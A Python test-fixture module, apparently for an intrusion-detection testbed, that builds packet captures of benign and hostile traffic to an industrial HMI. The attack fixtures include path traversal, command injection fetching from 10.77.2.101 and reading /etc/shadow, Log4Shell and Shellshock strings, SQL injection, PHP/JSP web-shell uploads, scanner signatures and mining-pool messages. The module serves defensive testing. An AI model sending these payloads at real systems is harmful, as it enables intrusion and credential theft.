"""For rules about what is asked of web pages and what files hold: attacks on an HMI, scanners, programs."""

from __future__ import annotations

import base64

from pcaps.make import smb
from pcaps.make.talk import Talk
from testbed.pcapfile import Frame
from testbed.play.attacks.offices import EICAR

PROGRAM = b"MZ\x90\x00\x03\0\0\0\x04\0\0\0\xff\xff".ljust(0x3C, b"\0") + b"\x80\0\0\0" + bytes(200)
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok"


def request(target: str, *fields: str, method: str = "GET", body: bytes = b"", agent: str = BROWSER) -> bytes:
    length = (f"Content-Length: {len(body)}",) if body else ()
    head = (f"{method} {target} HTTP/1.1", "Host: hmi3.plant.example", f"User-Agent: {agent}", *fields, *length)
    return "\r\n".join((*head, "", "")).encode() + body


def _asked(*requests: bytes, port: int = 80) -> list[Frame]:
    frames: list[Frame] = []
    talk = Talk(frames, port)
    for one in requests:
        talk.ask(one)
        talk.answer(OK)
    talk.end()
    return frames


def ordinary() -> list[Frame]:
    """Pages, pictures, a form with a path in it, a file put to where files belong, a program's update of itself."""
    return _asked(
        request("/"),
        request("/images/line3.png?v=2"),
        request("/trends?from=08:00&to=09:00&tag=oven%2Fzone1"),
        request("/login", "Content-Type: application/x-www-form-urlencoded", method="POST", body=b"page=main&x=1"),
        request("/recipes/oven.csv", method="PUT", body=b"zone,1\n"),
        request("/api/values", "Content-Type: application/json", method="POST", body=b'{"a": 1}', agent="python/3"),
    )


def attacks() -> list[Frame]:
    """Paths that lead out, commands in parameters, a class to be loaded, a shell that is uploaded."""
    return _asked(
        request("/../../../../etc/passwd"),
        request("/view?page=..%2f..%2f..%2fwindows%2fwin.ini"),
        request("/ping.cgi?host=127.0.0.1;wget+http://10.77.2.101/a"),
        request("/diag?target=127.0.0.1%3Bcat%20/etc/shadow"),
        request("/", "X-Api-Version: ${jndi:ldap://10.77.2.101/a}"),
        request("/cgi-bin/status", agent="() { :; }; /bin/ping -c 1 10.77.2.101"),
        request("/list?id=1+UNION+SELECT+user,password+FROM+users"),
        request("/uploads/cmd.jsp", method="PUT", body=b'<%@ page import="java.io.*" %><% %>'),
        request("/upload", "Content-Type: application/octet-stream", method="POST", body=b"<?php system($_GET[0]);"),
    )


def scanner() -> list[Frame]:
    """Two scanners that say who they are."""
    return _asked(
        request("/", agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
        request("/admin", agent="sqlmap/1.7#stable (https://sqlmap.org)"),
    )


def controllers_pages() -> list[Frame]:
    """The pages that controllers bring along."""
    return _asked(
        request("/Portal/Portal.mwsl?PriNav=Start"),
        request("/webvisu.htm"),
        request("/rokform/SysListDetail?name=Modules"),
        request("/wsman", "Content-Type: application/soap+xml", method="POST", body=b"<s/>"),
    )


def management() -> list[Frame]:
    """Windows is managed from afar."""
    return _asked(request("/wsman", "Content-Type: application/soap+xml", method="POST", body=b"<s/>"), port=5985)


def fetched(content: bytes) -> list[Frame]:
    frames: list[Frame] = []
    talk = Talk(frames, 80)
    talk.ask(request("/setup.com"))
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n" % len(content)
    talk.answer(head + content)
    talk.end()
    talk = Talk(frames, 80, 40002)
    talk.ask(request("/again.com"))
    chunk = b"%x\r\n" % len(content) + content
    talk.answer(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", chunk[:40], chunk[40:] + b"\r\n0\r\n\r\n")
    talk.end()
    return frames


def eicar_fetched() -> list[Frame]:
    return fetched(EICAR)


def program_fetched() -> list[Frame]:
    return fetched(PROGRAM)


def mailed(content: bytes) -> list[Frame]:
    """A mail with a file, in lines of 76 letters."""
    letters = base64.b64encode(content).decode()
    lines = "\r\n".join(letters[at : at + 76] for at in range(0, len(letters), 76))
    frames: list[Frame] = []
    talk = Talk(frames, 25)
    talk.answer(b"220 mail.plant.example ESMTP ready\r\n")
    for line, reply in (
        ("EHLO hmi3", "250 ok"),
        ("MAIL FROM:<a@plant.example>", "250 ok"),
        ("RCPT TO:<b@plant.example>", "250 ok"),
        ("DATA", "354 go on"),
        (f"Content-Transfer-Encoding: base64\r\n\r\n{lines}\r\n.", "250 kept"),
        ("QUIT", "221 bye"),
    ):
        talk.ask(line.encode() + b"\r\n")
        talk.answer(reply.encode() + b"\r\n")
    talk.end()
    return frames


def eicar_mailed() -> list[Frame]:
    return mailed(EICAR)


def program_mailed() -> list[Frame]:
    return mailed(PROGRAM)


def carried(content: bytes) -> list[Frame]:
    """A data connection of FTP."""
    frames: list[Frame] = []
    talk = Talk(frames, 50010)
    talk.answer(content)
    talk.end()
    return frames


def eicar_carried() -> list[Frame]:
    return carried(EICAR)


def program_carried() -> list[Frame]:
    return carried(PROGRAM)


def script_carried() -> list[Frame]:
    """A script on FTP's own data port: no program."""
    frames: list[Frame] = []
    talk = Talk(frames, 20)
    talk.answer(b"#!/bin/sh\necho\n")
    talk.end()
    return frames


def eicar_shared() -> list[Frame]:
    """The test file is read from a share."""
    frames: list[Frame] = []
    talk = Talk(frames, smb.PORT)
    talk.ask(smb.packet(smb.read(1, 5, len(EICAR))))
    talk.answer(smb.packet(smb.read_answer(1, 5, EICAR)))
    talk.end()
    return frames


def mining() -> list[Frame]:
    """A machine gets its work from a pool."""
    frames: list[Frame] = []
    talk = Talk(frames, 3333)
    talk.ask(b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}\n')
    talk.answer(b'{"id": 1, "result": [[["mining.notify", "ae68"]], "08000002", 4], "error": null}\n')
    talk.ask(b'{"id": 2, "method": "mining.authorize", "params": ["worker", "x"]}\n')
    talk.answer(b'{"id": 2, "result": true, "error": null}\n')
    talk.end()
    return frames


def asked_only() -> list[Frame]:
    """A pool is asked, refuses, and nobody logs in; another service speaks lines of JSON, too."""
    frames: list[Frame] = []
    for port, line in ((3333, b"mining.subscribe"), (3334, b"values")):
        talk = Talk(frames, port)
        talk.ask(b'{"id": 1, "method": "%s", "params": []}\n' % line)
        talk.answer(b'{"id": 1, "error": "no"}\n')
        talk.end()
    return frames
